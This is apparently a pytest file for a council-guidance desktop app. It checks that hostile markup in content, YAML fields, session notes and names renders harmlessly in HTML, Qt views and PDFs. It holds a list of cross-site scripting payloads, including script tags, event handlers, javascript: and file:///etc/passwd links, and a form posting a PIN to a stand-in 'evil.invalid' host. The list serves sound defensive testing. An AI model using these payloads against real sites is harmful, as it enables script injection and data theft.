"""Hostile markup in content and in what people type renders harmlessly: HTML, app and PDF.

Content could come from anywhere, and a manager types notes and names. Every
place such text reaches a page is fed the same payloads (scripts, event
handlers, ``javascript:`` and ``file:`` links, remote and local images,
iframes, style attributes and style sheets, forms, SVG): in clause text, in
the tree (question, help, option, outcome title, summary and steps), in
council.yaml (name, contacts) and in session notes and names. The tests
assert on the HTML the core produces, on what the app's views hold, and on
the PDF written from it.
"""

from __future__ import annotations

import datetime
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pypdf
import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QImage, QPdfWriter, QTextDocument
from PySide6.QtWidgets import QTextBrowser

from smguide.core.loading import load_library
from smguide.core.model import CouncilContent
from smguide.core.problems import errors
from smguide.core.records import Records
from smguide.core.rendering import Renderer
from smguide.core.routes import routes
from smguide.core.validation import check
from smguide.core.walk import Walk

MINI = Path(__file__).parent / "fixtures" / "mini"
WHEN = datetime.datetime(2026, 11, 21, 9, 30)

#: The host every remote reference in the payloads names.
EVIL = "evil.invalid"
PAYLOADS = [
    "<script>alert('script ran')</script>",
    f'<img src="https://{EVIL}/pixel.png" onerror="alert(1)">',
    '<img src="file:///etc/passwd">',
    '<a href="javascript:alert(1)">javascript link</a>',
    '<a href="file:///C:/Windows/System32/calc.exe">file link</a>',
    f'<a href="http://{EVIL}/">plain http link</a>',
    f'<iframe src="https://{EVIL}/frame"></iframe>',
    f'<p style="background: url(https://{EVIL}/bg.png)">styled paragraph</p>',
    f"<style>body {{ background: url(https://{EVIL}/sheet.png) }}</style>",
    '<div onmouseover="alert(1)">hover text</div>',
    f'<object data="https://{EVIL}/x.swf"></object><embed src="https://{EVIL}/x">',
    f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
    f'<meta http-equiv="refresh" content="0; url=https://{EVIL}/">',
    f'<base href="https://{EVIL}/">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    f'<form action="https://{EVIL}/steal"><input name="pin"></form>',
    "[markdown javascript](javascript:alert(1))",
    f"![markdown image](https://{EVIL}/md.png)",
    "[markdown file](file:///etc/passwd)",
    f"<https://{EVIL}/autolink> and <javascript:alert(1)>",
]
HOSTILE = " ".join(PAYLOADS)
#: What may appear in the HTML the app shows: the templates' own tags and the sanitiser's.
TAGS = {
    "html", "head", "body", "div", "span", "p", "br", "strong", "em", "b", "i", "u", "s",
    "ul", "ol", "li", "a", "blockquote", "code", "h1", "h2", "h3", "h4", "h5", "h6", "sup",
    "sub", "hr", "table", "thead", "tbody", "tr", "td", "th", "small", "section", "header",
    "title", "meta",
}  # fmt: skip
ATTRIBUTES = {
    "href", "title", "start", "class", "id", "name", "style", "width", "cellspacing",
    "cellpadding", "border", "rel", "align", "valign", "colspan", "charset", "lang",
    "aria-hidden",
}  # fmt: skip
SCHEMES = ("https:", "clause:", "#")


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_harmless(html: str) -> None:
    """Only known tags and attributes; links only to https, clauses or anchors; nothing loads."""
    parser = _Markup()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in TAGS, f"<{tag}> in {html[:200]}"
        if tag == "meta":
            assert all(name == "charset" for name, _ in attrs), attrs
        for name, value in attrs:
            assert name in ATTRIBUTES and not name.startswith("on"), f"{name}= on <{tag}>"
            value = value or ""
            if name == "href":
                assert value.startswith(SCHEMES), value
                assert EVIL not in value or value.startswith(f"https://{EVIL}/autolink"), value
            if name == "style":
                assert "url(" not in value and "expression" not in value, value
    lowered = html.lower()
    for forbidden in ("<script", "<iframe", "<img", "<object", "<embed", "<style", "<svg"):
        assert forbidden not in lowered
    assert "javascript:" not in re.sub(r"&[a-z]+;|&#\d+;", "", lowered.split(">", 1)[-1]) or (
        "javascript:" not in " ".join(str(v) for _, attrs in parser.tags for _, v in attrs)
    )
    assert "alert('script ran')" not in html


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini root with the payloads in clause text, tree text and council.yaml."""
    root = tmp_path_factory.mktemp("hostile") / "root"
    shutil.copytree(MINI, root)
    quoted = HOSTILE.replace("'", "''")

    def replace(relative: str, old: str, new: str) -> None:
        path = root / relative
        text = path.read_text(encoding="utf-8")
        assert old in text, old
        path.write_text(text.replace(old, new), encoding="utf-8")

    tree = "decision_trees/mini/basic.yaml"
    replace(tree, "text: Who sent it?", f"text: 'Who sent it? {quoted}'")
    replace(
        tree,
        "help: Clients are treated differently, {{ council.short_name }} says.",
        f"help: 'Clients are treated differently. {quoted}'",
    )
    replace(tree, "label: A client", f"label: 'A client {quoted}'")
    replace(tree, "title: Decline the request", f"title: 'Decline the request {quoted}'")
    replace(tree, "- Decline it politely.", f"- 'Decline it politely. {quoted}'")
    replace(tree, "title: A friend request", f"title: 'A friend request {quoted}'")
    replace(tree, "summary: Someone wants to connect with me.", f"summary: '{quoted}'")
    council = "content/mini/council.yaml"
    replace(council, "name: Mini Borough Council", f"name: 'Mini Borough Council {quoted}'")
    replace(council, "how: Speak to them.", f"how: 'Speak to them. {quoted}'")
    replace(council, "name: Your line manager", f"name: 'Your line manager {quoted}'")
    # Clause text must be word for word in its source, so both carry the payloads.
    replace("content/mini/mini-policy.md", "from clients.", f"from clients. {HOSTILE}")
    replace("content/mini/sources/mini.txt", "from clients.", f"from clients. {HOSTILE}")
    return root


@pytest.fixture(scope="module")
def hostile(hostile_root: Path) -> CouncilContent:
    library = load_library(hostile_root)
    assert errors(check(library, datetime.date(2026, 1, 1))) == []
    return library.council("mini")


def _declined(content: CouncilContent) -> Walk:
    walk = Walk(content.trees["basic"]).answer("client")
    assert walk.outcome is not None and walk.outcome.id == "decline"
    return walk


def test_the_payloads_really_are_in_the_content(hostile: CouncilContent) -> None:
    """Guards the fixture: each kind of field carries the payloads verbatim."""
    tree = hostile.trees["basic"]
    assert HOSTILE in tree.questions["who"].text
    assert HOSTILE in tree.outcomes["decline"].steps[0]
    assert HOSTILE in hostile.council.name
    clause = hostile.clause("mini-policy:3")
    assert clause is not None and HOSTILE in clause.text


def test_every_page_the_core_renders_is_harmless(hostile: CouncilContent) -> None:
    renderer = Renderer(hostile)
    tree = hostile.trees["basic"]
    pages = [renderer.help(question) for question in tree.questions.values()]
    for route in routes(tree):
        assert route.outcome is not None
        pages.append(renderer.outcome(route.outcome, route.steps))
    walk = _declined(hostile)
    pages.append(renderer.printable(walk, WHEN, "0.1.0"))
    for document in hostile.documents.values():
        pages.append(renderer.document(document, highlight="mini-policy:3"))
    old, new = hostile.documents["mini-old"], hostile.documents["mini-policy"]
    pages.append(renderer.changes(old, new))
    for scenario in hostile.sessions.scenarios:
        pages.append(renderer.scenario_card(scenario))
        pages.append(renderer.scenario_reveal(tree, scenario, card=True))
    for page in pages:
        assert_harmless(page)
    # The words around the payloads survive as text.
    assert "Decline it politely." in pages[len(tree.questions)]


def test_the_search_results_page_is_harmless(hostile: CouncilContent) -> None:
    from smguide.core.search import SearchIndex

    index = SearchIndex(hostile)
    query = "script alert iframe clients <img src=x onerror=alert(1)>"
    grouped = index.search_library(query)
    html = Renderer(hostile).search_results(query, grouped)
    assert_harmless(html)


def test_what_a_manager_types_is_shown_as_text(hostile: CouncilContent, tmp_path: Path) -> None:
    with Records.open(tmp_path / "records.sqlite")[0] as records:
        session = records.create_session(
            "mini",
            "induction",
            [f"Sam {PAYLOADS[1]}", "Jo <script>alert('script ran')</script>"],
            f"Manager {PAYLOADS[3]}",
            "2026-11-20",
            role=PAYLOADS[7],
            topics=["basic"],
        )
        records.set_notes(session.id, "basic", HOSTILE)
        records.set_actions(session.id, "basic", HOSTILE)
        records.add_clauses(session.id, "basic", ["mini-policy:3"])
        session = records.session(session.id)
    html = Renderer(hostile).session_record(session, WHEN, "0.1.0")
    assert_harmless(html)
    assert "&lt;script&gt;alert(&#39;script ran&#39;)&lt;/script&gt;" in html


# ---------------------------------------------------------------- the app


def _images_and_links(document: QTextDocument) -> tuple[int, list[str]]:
    images, links = 0, []
    block = document.begin()
    while block.isValid():
        fragments = block.begin()
        while not fragments.atEnd():
            text_format = fragments.fragment().charFormat()
            if text_format.isImageFormat():
                images += 1
            if text_format.isAnchor() and text_format.anchorHref():
                links.append(text_format.anchorHref())
            fragments += 1
        block = block.next()
    return images, links


def test_the_app_shows_the_payloads_as_words(qtbot, make_window, hostile_root: Path) -> None:
    from PySide6.QtCore import Qt

    window = make_window(hostile_root, council="mini")
    assert window.home.title.text().startswith("<div>Mini Borough Council &lt;script&gt;")
    qtbot.mouseClick(window.home.tiles["basic"], Qt.MouseButton.LeftButton)
    view = window.walk_page.question_view
    # Shown exactly as written, never read as HTML by the label.
    assert view.question.textFormat() == Qt.TextFormat.PlainText
    assert view.question.text().startswith("Who sent it? <script>")
    view.help_toggle.setChecked(True)
    assert_harmless(view.help_text.text())
    (client,) = [b for b in view.buttons if b.accessibleName().startswith("A client")]
    qtbot.mouseClick(client, Qt.MouseButton.LeftButton)
    outcome = window.walk_page.outcome_view.view
    images, links = _images_and_links(outcome.document())
    assert images == 0
    assert all(link.startswith(SCHEMES) for link in links), links
    assert "Decline it politely." in outcome.toPlainText()
    row = window.walk_page.answers.findChildren(type(view.question))
    assert all(
        label.textFormat() == Qt.TextFormat.PlainText or "<script" not in label.text()
        for label in row
    )


def _png(path: Path) -> Path:
    image = QImage(4, 4, QImage.Format.Format_RGB32)
    image.fill(0xFF0000)
    assert image.save(str(path))
    return path


def test_the_views_load_no_file_even_if_markup_got_past_the_sanitiser(
    qtbot, tmp_path: Path
) -> None:
    """Defence in depth: an ``<img>`` straight into the view or the record loads nothing."""
    from smguide.ui.printing import outcome_document
    from smguide.ui.richview import RichView

    path = _png(tmp_path / "pixel.png")
    url = QUrl.fromLocalFile(str(path)).toString()
    html = (
        f'<p>before <IMG src="{url}"> and <img src="{path}"> after</p>'
        f'<table background="{path}"><tr><td style="background-image: url({path})">x</td></tr>'
        "</table>"
    )
    image = QTextDocument.ResourceType.ImageResource.value
    plain = QTextBrowser()
    qtbot.addWidget(plain)
    plain.setHtml(html)
    plain.show()
    qtbot.waitExposed(plain)
    # The test is meaningful: a plain text browser does read the files.
    assert plain.document().resource(image, QUrl(url)) is not None
    view = RichView()
    qtbot.addWidget(view)
    view.setHtml(html)
    view.show()
    qtbot.waitExposed(view)
    printed = outcome_document(html)
    printed.print_(QPdfWriter(str(tmp_path / "printed.pdf")))
    for document in (view.document(), printed):
        assert _images_and_links(document)[0] == 0
        for name in (url, str(path)):
            found = document.resource(image, QUrl(name))
            assert found is None or QImage.fromData(found).isNull(), (name, found)


def test_a_link_that_is_not_a_clause_is_never_opened(qtbot) -> None:
    from smguide.ui.richview import RichView

    view = RichView()
    qtbot.addWidget(view)
    opened: list[str] = []
    view.outside_link.connect(opened.append)
    with qtbot.assertNotEmitted(view.clause_requested):
        view.anchorClicked.emit(QUrl("javascript:alert(1)"))
        view.anchorClicked.emit(QUrl("file:///etc/passwd"))
    assert opened == ["javascript:alert(1)", "file:///etc/passwd"]
    assert not view.openLinks() and not view.openExternalLinks()


# ---------------------------------------------------------------- the PDF


def _pdf_report(path: Path) -> tuple[str, set[str], list[str]]:
    """The PDF's text, the kinds of object in it, and the targets of its links."""
    reader = pypdf.PdfReader(path)
    text = " ".join(page.extract_text() for page in reader.pages)
    kinds: set[str] = set()
    uris: list[str] = []
    for page in reader.pages:
        resources = page.get("/Resources") or {}
        for obj in (resources.get("/XObject") or {}).values():
            kinds.add(str(obj.get_object().get("/Subtype")))
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            kinds.add(str(action.get("/S")))
            if "/URI" in action:
                uris.append(str(action["/URI"]))
    catalog = reader.trailer["/Root"]
    kinds |= {str(key) for key in catalog}
    names = catalog.get("/Names")
    if names is not None:
        kinds |= {str(key) for key in names.get_object()}
    return " ".join(text.split()), kinds, uris


def test_the_pdf_records_hold_text_and_nothing_active(
    qapp, hostile: CouncilContent, tmp_path: Path
) -> None:
    from smguide.ui.printing import save_pdf

    renderer = Renderer(hostile)
    with Records.open(tmp_path / "records.sqlite")[0] as records:
        session = records.create_session(
            "mini", "induction", ["Sam <b>Lee</b>"], "Manager", "2026-11-20", topics=["basic"]
        )
        records.set_notes(session.id, "basic", HOSTILE)
        session = records.session(session.id)
    for name, html in (
        ("outcome.pdf", renderer.printable(_declined(hostile), WHEN, "0.1.0")),
        ("session.pdf", renderer.session_record(session, WHEN, "0.1.0")),
    ):
        path = tmp_path / name
        save_pdf(html, path, title="record")
        text, kinds, uris = _pdf_report(path)
        assert "/Image" not in kinds and "/JavaScript" not in kinds and "/OpenAction" not in kinds
        assert "/Launch" not in kinds and "/AA" not in kinds
        assert all(uri.startswith("https://") for uri in uris), uris
        assert "script ran" not in text or "<script>" in text  # shown as words if at all
        assert "Mini Borough Council" in text
